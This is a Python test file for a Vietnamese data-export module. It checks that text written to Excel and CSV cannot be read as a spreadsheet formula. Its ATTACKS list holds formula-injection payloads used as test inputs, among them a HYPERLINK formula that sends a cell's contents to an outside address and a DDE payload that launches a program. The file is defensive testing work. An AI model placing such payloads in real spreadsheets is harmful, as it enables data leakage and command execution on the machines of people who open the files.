"""Requirement 12: no cell of an exported table acts as a formula, in Excel files or in CSV."""

from __future__ import annotations

import csv as reader
import io
import re
from datetime import date, datetime
from decimal import Decimal

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from ansinh.files import csv, xlsx
from ansinh.files.table import Column, Kind, Value

COLUMNS = [Column("Tên"), Column("Ghi chú")]
ATTACKS = [
    '=HYPERLINK("http://vi.du/?"&A1,"Bấm")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    "=cmd|'/c calc'!A0",
    'a";=1+1;"',
    "Sở A;=1+1",
    "a\n=1+1",
    "{=1+1}",
    "- Sở Văn hóa",
    "http://vi.du",
    "_x0041_",
    "x" * 40_000,
]
TEXTS = st.text(st.characters(codec="utf-8"), max_size=60) | st.sampled_from(ATTACKS)
STARTS = re.compile("[=+\\-@\t\r\n＝＋－＠]")
BARE_START = re.compile('[\\s"]*[=+\\-@＝＋－＠]')
HARMLESS = re.compile(r"[-–]|[-+]?[0-9]+(?:[.,][0-9]+)*\s?%?")


def excel(rows: list[list[Value]], columns: list[Column] = COLUMNS) -> bytes:
    """Write rows as an Excel file."""
    out = io.BytesIO()
    assert xlsx.write_table(out, columns=columns, rows=rows) == len(rows)
    return out.getvalue()


def text_of(rows: list[list[Value]], columns: list[Column] = COLUMNS) -> str:
    """Write rows as CSV."""
    out = io.BytesIO()
    assert csv.write_table(out, columns=columns, rows=rows) == len(rows)
    assert not out.closed
    return out.getvalue().decode("utf-8-sig")


@given(st.lists(st.lists(TEXTS, min_size=2, max_size=2), min_size=1, max_size=5))
@settings(max_examples=60, deadline=None)
def test_every_text_is_a_text_in_excel(rows: list[list[str]]) -> None:
    """Reopened, each cell is of type string and holds what was written, no formula and no link."""
    sheet = load_workbook(io.BytesIO(excel([list(row) for row in rows]))).active
    assert sheet is not None
    for row, cells in zip(rows, list(sheet.iter_rows(min_row=2)), strict=True):
        for text, cell in zip(row, cells, strict=True):
            assert cell.data_type == ("s" if cell.value is not None else "n")
            assert cell.hyperlink is None
            if text.isprintable() and "_x" not in text:
                assert (cell.value or "") == (text if len(text) <= 32_767 else text[:32_766] + "…")


@pytest.mark.parametrize("attack", ATTACKS)
def test_known_attacks_are_plain_texts_in_excel(attack: str) -> None:
    """Headings too."""
    sheet = load_workbook(io.BytesIO(excel([[attack, ""]], [Column(attack), Column("b")]))).active
    assert sheet is not None
    assert {cell.data_type for row in sheet.iter_rows(max_col=1) for cell in row} == {"s"}


@given(st.lists(st.lists(TEXTS, min_size=2, max_size=2), min_size=1, max_size=5))
@settings(max_examples=120, deadline=None)
def test_no_csv_cell_begins_like_a_formula(rows: list[list[str]]) -> None:
    """However the file is cut into cells afterwards: at commas, semicolons or tabs, by lines."""
    written = text_of([list(row) for row in rows])
    assert all(HARMLESS.fullmatch(cell) or not STARTS.match(cell) for row in cells(written, ",") for cell in row)
    for delimiter in ";\t":
        for row in cells(written, delimiter):
            # The first cell begins with the quote that opens the line; what follows a cut is bare.
            for cell in row[1:]:
                assert HARMLESS.fullmatch(cell.strip("\"', \r\n")) or not BARE_START.match(cell)


def cells(written: str, delimiter: str) -> list[list[str]]:
    """Cut CSV text into cells as a program with the given settings would."""
    return list(reader.reader(io.StringIO(written, newline=""), delimiter=delimiter))


CELLS: list[tuple[Value, str]] = [
    (-5, "-5"),
    (Decimal("-12.50"), "-12,5"),
    (97.5, "97,5"),
    (1_234_567, "1234567"),
    (True, "Có"),
    (None, ""),
    (date(2026, 4, 3), "03/04/2026"),
    (datetime(2026, 4, 3, 7, 5), "03/04/2026 07:05"),  # noqa: DTZ001 - what a form gives
    ("-", "-"),
    ("-5", "-5"),
    ("+2,5%", "+2,5%"),
    ("- Sở A", "'- Sở A"),
    ("001234567890", "001234567890"),
    ("a\x00b\ud800c", "ab?c"),
]


@pytest.mark.parametrize(("value", "expected"), CELLS)
def test_numbers_and_days_stay_what_they_are_in_csv(value: Value, expected: str) -> None:
    """Only texts are guarded; a minus before a figure is no formula."""
    assert cells(text_of([[value, "x"]]), ",")[1][0] == expected


def test_numbers_and_days_stay_what_they_are_in_excel() -> None:
    """Figures can be reckoned with, days are days, long whole numbers keep every digit."""
    columns = [Column("a", Kind.DECIMAL), Column("b", Kind.DATE), Column("c", Kind.MONEY), Column("d", Kind.PERCENT)]
    rows: list[list[Value]] = [
        [Decimal("97.5"), date(2026, 4, 3), 500_000, 95],
        [float("nan"), date(1890, 1, 1), 10**18 + 1, None],
    ]
    sheet = load_workbook(io.BytesIO(excel(rows, columns))).active
    assert sheet is not None
    first, second = list(sheet.iter_rows(min_row=2))
    assert [cell.value for cell in first] == [97.5, datetime(2026, 4, 3), 500_000, 95]  # noqa: DTZ001
    assert first[1].number_format == "dd/mm/yyyy"
    assert [cell.value for cell in second] == [None, "01/01/1890", str(10**18 + 1), None]
